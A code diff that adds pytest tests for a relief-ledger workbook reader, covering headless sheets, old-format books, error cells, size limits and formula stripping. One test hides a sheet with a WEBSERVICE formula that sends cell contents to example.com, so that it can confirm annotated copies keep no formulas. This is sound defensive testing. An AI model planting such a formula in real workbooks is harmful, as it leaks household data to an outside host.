@@ -3,6 +3,7 @@
 import io
 import zipfile
 
+import openpyxl
 import pytest
 import xlsxwriter
 
@@ -14,6 +15,7 @@ from nuandong.relief.reading.layout import layout_of, proposed
 from nuandong.relief.reading.opening import FAULT, NO_VALUE, open_book
 from nuandong.relief.reading.rows import rows_of
 from tests.relief.books import TITLES, book, household, number
+from tests.relief.old_books import old_book
 
 FORM = "official-ledger"
 
@@ -180,3 +182,71 @@ def test_a_sheet_without_headings_gives_no_personal_data_for_headings():
 
     with pytest.raises(Invalid, match="表头"):
         layout_of(open_book(workbook(fill), 1000), FORM)
+
+
+def written(rows) -> bytes:
+    def fill(made):
+        page = made.add_worksheet("表")
+        for line, row in enumerate(rows):
+            page.write_row(line, 0, row)
+
+    return workbook(fill)
+
+
+@pytest.mark.parametrize(
+    "first", [["王伟", "甲村", "低保户"], ["王伟", "甲村", "3"], ["王伟", "甲村", "52************34"]]
+)
+def test_a_headless_sheet_whose_first_row_has_no_number_gives_no_name_for_a_heading(first):
+    rows = [first, ["李芳", "甲村", "低保户", number(1)], ["李强", number(2), "甲村"]]
+    with pytest.raises(Invalid, match="表头"):
+        layout_of(open_book(written(rows), 1000), FORM)
+
+
+def test_headings_that_name_no_field_are_words_above_numbers_of_people():
+    odd = ("当家人", "证件号", "在哪里")
+    assert layout_of(open_book(written([odd, ["王伟", number(0), "甲村"]]), 1000), FORM).main.headings == odd
+
+
+def test_the_old_kind_of_workbook_and_a_table_that_begins_in_column_b():
+    rows = [["", *TITLES], *(["", *household(n)] for n in range(3))]
+    data = old_book({"甲村": [[], ["", "台账"], *rows], "旧表": [["户主姓名"]]}, hidden=frozenset({"旧表"}))
+    found = open_book(data, 1000)
+    assert (found.refusal, found.hidden_sheets, found.hides_known) == ("", 1, False)
+    layout, read_rows = read(data)
+    assert (layout.main.headings, layout.main.first) == (("", *TITLES), 3)
+    assert (read_rows.numbers, read_rows.cells["head_id_no"]) == ([4, 5, 6], [number(n) for n in range(3)])
+    assert read_rows.cells["household_size"] == [str(household(n)[4]) for n in range(3)]
+
+    def fill(made):
+        page = made.add_worksheet("甲村")
+        for line, row in enumerate(rows[:2]):
+            page.write_row(line, 0, row)
+        page.write_formula(1, 7, "=1/0", None, "#DIV/0!")
+
+    assert read(workbook(fill))[1].cells["persons_in_need"] == [FAULT]
+    copy = annotated(data, [Note("甲村", 4, 2, "号码不对", error=True)], "核对", 1000)
+    page = openpyxl.load_workbook(io.BytesIO(copy.data)).active
+    assert (page["C4"].value, page["C4"].comment.text) == (number(0), "号码不对")
+
+
+def test_no_formula_is_left_in_a_copy_hidden_sheets_and_far_columns_included():
+    def fill(made):
+        first, second, hidden = (made.add_worksheet(name) for name in ("说明", "甲村", "隐藏"))
+        first.write(0, 0, "说明")
+        second.write_formula(4, 0, "=1+1", None, 2)
+        second.write_formula(0, 120, "=NOW()")
+        hidden.write_formula(30, 130, '=WEBSERVICE("http://example.com/"&A1)')
+        hidden.hide()
+        for one in (first, second):
+            one.select()
+
+    copy = annotated(workbook(fill), [Note("甲村", 5, 0, "问题", error=True)], "核对", 1000)
+    made = openpyxl.load_workbook(io.BytesIO(copy.data))
+    assert not [cell for page in made.worksheets for row in page.rows for cell in row if cell.data_type == "f"]
+    assert (made.active.title, made["甲村"]["A5"].value) == ("甲村", "2")
+    assert [page.title for page in made.worksheets if page.sheet_view.tabSelected] == ["甲村"]
+
+
+def test_more_cells_than_whoever_asked_can_hold_are_refused(monkeypatch):
+    monkeypatch.setattr("nuandong.relief.reading.opening.MAX_CELLS", 25)
+    assert open_book(book([household(n) for n in range(3)]), 1000).refusal == "too_full"
